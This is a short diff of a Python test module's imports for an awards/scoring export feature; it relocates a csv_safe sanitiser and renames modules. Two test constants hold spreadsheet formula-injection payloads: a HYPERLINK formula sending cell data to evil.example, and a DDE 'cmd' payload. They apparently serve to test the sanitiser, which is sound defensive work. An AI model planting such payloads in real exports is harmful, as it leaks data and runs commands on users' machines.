@@ -8,12 +8,13 @@ import zipfile
 
 import pytest
 
-from award.exports import csv_safe, units_template_workbook
+from award.exports import units_template_workbook
 from award.models import Unit
-from evaluasi import services as scoring_services
+from common.xlsx import csv_safe
 from laporan.workbook import ranking_csv_rows
-from tests.evaluasi import golden
+from penilaian import services as scoring_services
 from tests.laporan.test_reports import make
+from tests.penilaian import golden
 
 EVIL_NAME = '=HYPERLINK("http://evil.example/?d="&A1,"Klik")'
 EVIL_ANSWER = "=cmd|' /C calc'!A0"
